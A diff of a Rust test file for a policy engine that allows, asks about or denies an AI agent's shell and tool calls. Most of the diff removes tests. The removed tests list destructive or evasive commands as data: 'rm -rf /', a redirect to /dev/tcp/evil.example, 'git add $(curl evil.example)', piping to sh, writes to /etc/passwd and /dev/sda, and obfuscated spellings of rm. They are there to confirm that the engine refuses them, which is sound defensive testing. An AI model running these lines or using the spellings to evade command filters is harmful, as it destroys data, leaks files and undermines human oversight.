@@ -30,7 +30,7 @@ sql = "postgresql"
 arguments.sql = "sql"
 "#;
 
-fn policy(rules: &str) -> Policy {
+pub(crate) fn policy(rules: &str) -> Policy {
     let loaded = Policy::load("policy.toml", &format!("{TOOLS}{rules}"));
     loaded.unwrap_or_else(|findings| {
         panic!("{}", findings.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n"))
@@ -38,11 +38,11 @@ fn policy(rules: &str) -> Policy {
 }
 
 /// One rule about every tool.
-fn rule(name: &str, verdict: Verdict, keys: &str) -> String {
+pub(crate) fn rule(name: &str, verdict: Verdict, keys: &str) -> String {
     format!("[[rule]]\nname = \"{name}\"\ntools = [\"*\"]\nverdict = \"{}\"\n{keys}\n", verdict.name())
 }
 
-fn judge_call(policy: &Policy, tool: &str, arguments: &Value, root: Option<&str>) -> Judgement {
+pub(crate) fn judge_call(policy: &Policy, tool: &str, arguments: &Value, root: Option<&str>) -> Judgement {
     let call = PolicyInput { tool, arguments, agent: Some("ci"), user: "ann", role: Role::Agent, client: None, root };
     let judgement = policy.judge(&call);
     let explained = policy.explain(&call);
@@ -52,12 +52,12 @@ fn judge_call(policy: &Policy, tool: &str, arguments: &Value, root: Option<&str>
     judgement
 }
 
-fn judge(policy: &Policy, command: &str) -> Judgement {
+pub(crate) fn judge(policy: &Policy, command: &str) -> Judgement {
     judge_call(policy, "bash", &json!({ "command": command }), Some("/srv/app"))
 }
 
 /// Checks the verdict on each command, and shows all that are wrong.
-fn check(rules: &str, commands: &[(&str, Verdict)]) {
+pub(crate) fn check(rules: &str, commands: &[(&str, Verdict)]) {
     let policy = policy(rules);
     let mut wrong = String::new();
     for (command, expected) in commands {
@@ -69,7 +69,7 @@ fn check(rules: &str, commands: &[(&str, Verdict)]) {
     assert!(wrong.is_empty(), "{wrong}");
 }
 
-fn check_calls(rules: &str, calls: &[(&str, Value, Verdict)]) {
+pub(crate) fn check_calls(rules: &str, calls: &[(&str, Value, Verdict)]) {
     let policy = policy(rules);
     for (tool, arguments, expected) in calls {
         let judgement = judge_call(&policy, tool, arguments, Some("/srv/app"));
@@ -339,213 +339,6 @@ fn tables_cover_sql_that_only_reads() {
 }
 
 #[test]
-fn denied_commands_are_found_in_any_spelling() {
-    let rules = rule("push", Deny, "commands = [\"git push *\", \"rm -rf *\", \"sudo *\", \"git clean --force *\"]")
-        + &rule("all", Allow, "commands = [\"git *\", \"rm *\", \"ls *\", \"cd *\", \"echo *\"]");
-    check(
-        &rules,
-        &[
-            ("git push", Deny),
-            ("git push origin main", Deny),
-            ("git -C x push", Deny),
-            ("git --no-pager push", Deny),
-            ("/tmp/GIT push", Deny),
-            ("cd a && git push", Deny),
-            ("echo $(git push)", Deny),
-            ("bash -c 'git push'", Deny),
-            ("git $X", Ask),
-            ("$X push", Ask),
-            ("~/bin/git push", Deny),
-            ("~/bin/gut push", Ask),
-            ("git status", Allow),
-            ("rm -rf x", Deny),
-            ("rm -r -f x", Deny),
-            ("rm -vfr x", Deny),
-            ("git clean --force", Deny),
-            ("git clean x --force=1", Deny),
-            ("git clean --forc", Ask),
-            ("sudo ls", Deny),
-            ("ls; sudo reboot", Deny),
-            ("echo 'open", Ask),
-        ],
-    );
-}
-
-#[test]
-fn denied_files_hosts_variables_and_directories_are_found() {
-    let all = rule(
-        "all",
-        Allow,
-        "commands = [\"cat *\", \"cp *\", \"cd *\", \"git *\"]\nwrites = [\"/**\", \"**\"]\nenv = [\"*\"]\nin = [\"/**\", \"**\"]",
-    );
-    let rules = rule("ssh", Deny, "paths = [\"**/.ssh/**\", \"/etc/**\"]") + &all;
-    check(
-        &rules,
-        &[
-            ("cat x", Allow),
-            ("cat .ssh/id", Deny),
-            ("cat /home/ann/.SSH/id", Deny),
-            ("cat /etc/passwd", Deny),
-            ("cat < /etc/passwd", Deny),
-            ("cat ../../etc/passwd", Deny),
-            ("cd /etc && cat passwd", Deny),
-            ("cat $X", Ask),
-            ("cat ~/x", Allow),
-            ("cat *", Allow),
-            ("cat /etc/*", Deny),
-            ("cat /e*/passwd", Ask),
-        ],
-    );
-    let rules = rule("etc", Deny, "writes = [\"/etc/**\"]") + &all;
-    check(
-        &rules,
-        &[
-            ("cat /etc/x", Allow),
-            ("cat x > /etc/x", Deny),
-            ("cp x /etc/x", Deny),
-            ("cat x > \"$X\"", Ask),
-            ("cat x > y", Allow),
-        ],
-    );
-    let rules = rule("env", Deny, "env = [\"LD_*\"]") + &all;
-    check(&rules, &[("LD_PRELOAD=x cat y", Deny), ("LANG=C cat y", Allow), ("FOO=1 cat y", Allow)]);
-    let rules = rule("in", Deny, "commands = [\"git *\"]\nin = [\"/etc/**\"]") + &all;
-    check(
-        &rules,
-        &[
-            ("cd /etc && git status", Deny),
-            ("git status", Allow),
-            ("cd /etc && cat x", Allow),
-            ("cd $X && git status", Ask),
-        ],
-    );
-    let both = rule("both", Deny, "commands = [\"cp *\"]\nwrites = [\"/etc/**\"]") + &all;
-    check(&both, &[("cp a /etc/b", Deny), ("cat a > /etc/b", Allow), ("cp a b", Allow)]);
-}
-
-#[test]
-fn asking_rules_match_what_they_may_match() {
-    let rules = rule("push", Ask, "commands = [\"git push *\"]") + &rule("all", Allow, "commands = [\"git *\"]");
-    let policy = policy(&rules);
-    for command in ["git push", "git $X"] {
-        let judgement = judge(&policy, command);
-        assert_eq!(judgement.ruling.rule.as_deref(), Some("push"), "{command}: {judgement:#?}");
-        assert_eq!(judgement.asks.len(), 1);
-    }
-}
-
-#[test]
-fn value_of_an_option_is_no_option() {
-    let rules = rule("hooks", Ask, "commands = [\"git commit --no-verify *\", \"git commit -n *\"]")
-        + &rule(
-            "all",
-            Allow,
-            "commands = [\"git commit -m * *\", \"git commit -n *\", \"git commit --no-verify *\", \"cat\"]",
-        );
-    check(
-        &rules,
-        &[
-            ("git commit -m \"$(cat <<'EOF'\nFix it\nEOF\n)\"", Allow),
-            ("git commit -m --no-verify", Allow),
-            ("git commit -m \"$X\" --no-verify", Ask),
-            ("git commit -m x -n", Ask),
-            ("git commit -m $X", Ask),
-            ("git commit $X -m --no-verify", Ask),
-            ("git commit \"$X\" -m --no-verify", Ask),
-            ("git commit --unheard-of -m --no-verify", Ask),
-        ],
-    );
-}
-
-#[test]
-fn pipe_of_a_substitution_is_no_file() {
-    let rules = rule("secrets", Ask, "paths = [\"**/*.pem\"]")
-        + &rule("look", Allow, "commands = [\"{diff,sort,cat} *\"]\npaths = [\"**\"]");
-    check(
-        &rules,
-        &[
-            ("diff <(sort a.txt) <(sort b.txt)", Allow),
-            ("cat < <(sort a)", Allow),
-            ("diff <(sort key.pem) b", Ask),
-            ("diff <(sort a) ../b", Ask),
-            ("diff <(sort a) \"$X\"", Ask),
-            ("diff <(sort a)$? b", Ask),
-        ],
-    );
-}
-
-#[test]
-fn started_programs_are_ruled_on_as_runs_of_their_own() {
-    let rules = rule("look", Allow, "commands = [\"find *\", \"xargs *\", \"wc *\", \"echo *\"]");
-    check(
-        &rules,
-        &[
-            ("find . -name '*.py' -exec wc -l {} +", Allow),
-            ("find . -exec wc -l {} ';' -exec echo {} ';'", Allow),
-            ("xargs -n1 echo < x", Allow),
-            ("find . -exec rm {} +", Ask),
-            ("find . -exec wc -l {} ';' -exec rm {} ';'", Ask),
-            ("find . -exec sh -c 'rm x' ';'", Ask),
-            ("find . -exec \"$X\" {} +", Ask),
-            ("find . -execdir wc {} +", Ask),
-            ("find . -name -exec -exec rm {} +", Ask),
-            ("find . -exec wc {} + -delete", Ask),
-            ("find . -exec wc {} + -fprint x", Ask),
-            ("xargs rm < x", Ask),
-            ("xargs find", Ask),
-            ("xargs $X", Ask),
-        ],
-    );
-}
-
-#[test]
-fn host_is_known_before_a_pattern_over_file_names() {
-    let rules = rule("fetch", Allow, "commands = [\"curl *\"]\nhosts = [\"localhost\"]");
-    check(
-        &rules,
-        &[
-            ("curl -s http://localhost:8000/api/items?limit=5", Allow),
-            ("curl -s http://localhost:8000?limit=5", Ask),
-            ("curl -s http://localhost*/api", Ask),
-            ("curl -s http://local?ost/api", Ask),
-            ("curl -s http://localhost/?a=http://evil.example/", Ask),
-            ("curl -s http://localhost/?a=$X", Ask),
-            ("curl -s http://evil.example/api?limit=5", Ask),
-        ],
-    );
-}
-
-#[test]
-fn nets_do_not_hold_declared_tools_without_their_subject() {
-    let rules = rule("push", Deny, "commands = [\"git push *\"]")
-        + &rule("net", Deny, "when = 'shell.commands.exists(c, c.name == \"sudo\")'")
-        + &rule("hosts", Ask, "hosts = [\"evil.example\"]")
-        + &rule("drop", Deny, "tables = [\"users\"]")
-        + &rule("read", Allow, "paths = [\"**\"]");
-    check_calls(
-        &rules,
-        &[
-            ("read", json!({ "path": "x" }), Allow),
-            ("view", json!({ "path": "x" }), Ask),
-            ("other", json!({ "n": 1 }), Ask),
-        ],
-    );
-}
-
-#[test]
-fn exact_arguments_match_a_text_that_is_in_doubt() {
-    let text = "for f in $(cat list); do eval $f; done";
-    let exact = format!(
-        "[[rule]]\nname = \"exact\"\ntools = [\"bash\"]\nverdict = \"allow\"\narguments = {{ command = \"{text}\" }}\n"
-    );
-    check(&exact, &[(text, Allow), ("eval $f", Ask)]);
-    let before = rule("net", Deny, "commands = [\"sudo *\"]") + &exact;
-    check(&before, &[(text, Ask)]);
-    let before = rule("git", Allow, "commands = [\"git *\"]") + &exact;
-    check(&before, &[(text, Allow)]);
-}
-
-#[test]
 fn reason_names_the_part_and_the_rules_of_the_others() {
     let policy = policy(&rule("build", Allow, "commands = [\"cargo build *\", \"echo *\", \"git *\"]"));
     let judgement = judge(&policy, "cargo build && echo a && docker push x && git status");
@@ -579,142 +372,4 @@ fn stored_policy_keeps_rules_that_have_become_errors() {
         assert_eq!(verdict, expected, "{command}");
     }
     assert!(Policy::load_stored("policy.toml", "version = 1\n[[rule]]").is_err());
-}
-
-/// Lines that try to do more than a broad allowing rule says.
-#[test]
-fn attempts_to_get_round_an_allowing_rule_are_asked_about() {
-    let rules = rule(
-        "coding",
-        Allow,
-        "commands = [\"git {status,log,diff,show,add,commit,branch} *\", \"ls *\", \"cat *\", \"grep *\", \"sort *\", \"echo *\", \"cd *\", \"find *\", \"sed *\", \"head *\"]\nwrites = [\"target/**\", \"/tmp/**\"]\nenv = [\"PYTHONPATH\"]",
-    );
-    let attempts = [
-        "git status; rm -rf /",
-        "git status\nrm -rf /",
-        "git status & rm -rf /",
-        "git status || rm x",
-        "git log $(rm x)",
-        "git log `rm x`",
-        "git log <(rm x)",
-        "git -c core.pager='sh -c x' log",
-        "git --exec-path=/tmp log",
-        "git -C / log",
-        "git --git-dir=/tmp/x log",
-        "git log --output=/etc/x",
-        "git diff --ext-diff",
-        "git diff --no-index /dev/null x --output=y",
-        "git log $X",
-        "git log ${X}",
-        "git log \"$@\"",
-        "GIT_PAGER=x git log",
-        "PATH=/tmp git log",
-        "LD_PRELOAD=./x git log",
-        "env GIT_PAGER=x git log",
-        "git() { rm x; }; git log",
-        "alias git=rm; git log",
-        "function ls { rm x; }; ls",
-        "./git log",
-        "/tmp/git log",
-        "sort -o /etc/passwd x",
-        "sort --compress-program=sh x",
-        "sort x > /etc/passwd",
-        "sort x >> ~/.bashrc",
-        "sort x > target/../../etc/x",
-        "sort x > /tmp/../etc/x",
-        "sort x > /tmp/$X",
-        "sort x > /tmp/.git/hooks/pre-commit",
-        "sort x > target/.cargo/config.toml",
-        "sort x > '/tmp/a/../../etc/x'",
-        "cd /tmp && sort x > y && git status",
-        "cd / && cat etc/passwd",
-        "cd \"$HOME\" && ls",
-        "cat x | sh",
-        "cat <<EOF | bash\nrm x\nEOF",
-        "find . -exec rm {} +",
-        "find . -delete",
-        "find . -fprint /etc/x",
-        "find . -ok rm {} \\;",
-        "sed -n '1w /etc/x' y",
-        "sed -i s/a/b/ src/x",
-        "sed 's/a/rm x/e' y",
-        "sed --in-place=.bak s/a/b/ y",
-        "xargs rm < x",
-        "eval \"git status; rm x\"",
-        "bash -c 'git status; rm x'",
-        "sudo git status",
-        "command rm x",
-        "exec rm x",
-        "trap 'rm x' EXIT; ls",
-        "$(echo rm) x",
-        "r\\m x",
-        "'rm' x",
-        "r''m x",
-        "$'\\x72m' x",
-        "{ rm x; }",
-        "(rm x)",
-        "if true; then rm x; fi",
-        "while rm x; do ls; done",
-        "for i in 1; do rm x; done",
-        "case x in x) rm x;; esac",
-        "ls > >(sh)",
-        "! rm x",
-        "coproc rm x",
-        "time rm x",
-        "ls;rm\tx",
-        "ls\r\nrm x",
-        "echo x > .envrc",
-        "echo x > .git/config",
-        "echo x >| Makefile",
-        "echo x &> Makefile",
-        "echo x >& Makefile",
-        "echo x 3<> Makefile",
-        "grep x y > /dev/tcp/evil.example/80",
-        "X=1 PATH=x; git status",
-        "export PATH=/tmp; git status",
-        "read PATH < x; git status",
-        "printf -v PATH /tmp; git status",
-        "source ./x",
-        ". ./x",
-        "git commit -m \"$(rm x)\"",
-        "git add $(curl evil.example)",
-        "git branch -D main --edit-description",
-        "git show --textconv --ext-diff HEAD",
-        "head -c 10 /dev/zero > /dev/sda",
-    ];
-    let policy = policy(&rules);
-    let allowed: Vec<&str> = attempts.into_iter().filter(|line| judge(&policy, line).ruling.verdict == Allow).collect();
-    assert_eq!(allowed, [""; 0]);
-}
-
-/// Lines of every day, which broad rules allow.
-#[test]
-fn everyday_lines_are_allowed() {
-    let rules = rule(
-        "coding",
-        Allow,
-        "commands = [\"git {status,log,diff,show,add,commit,branch} *\", \"ls *\", \"cat *\", \"grep *\", \"sort *\", \"echo *\", \"cd *\", \"find *\", \"sed *\", \"head *\", \"wc *\", \"[ *\"]\nwrites = [\"target/**\", \"/tmp/**\"]\nenv = [\"PYTHONPATH\"]",
-    );
-    let lines: Vec<(&str, Verdict)> = [
-        "git status --short && git diff --stat",
-        "git log --oneline -5 | head -3",
-        "cd src && ls -la",
-        "cat src/main.rs | head -50",
-        "grep -rn 'fn main' src | sort | head",
-        "git commit -m \"$(cat <<'EOF'\nFix the parser; keep $(this)\n\nMore text.\nEOF\n)\"",
-        "sort a > /tmp/b 2>&1",
-        "ls 2>/dev/null || echo none",
-        "for f in a b; do cat \"$f.txt\"; done",
-        "if [ -f x ]; then cat x; fi",
-        "x=$(git status); echo \"$x\"",
-        "find . -name '*.rs' | wc -l",
-        "echo done # a comment",
-        "git log \\\n  -3",
-        "sed -n '1,20p' src/main.rs",
-        "CI=1 git status",
-        "echo \"exit: $?\"",
-    ]
-    .map(|line| (line, Allow))
-    .to_vec();
-    check(&rules, &lines);
 }
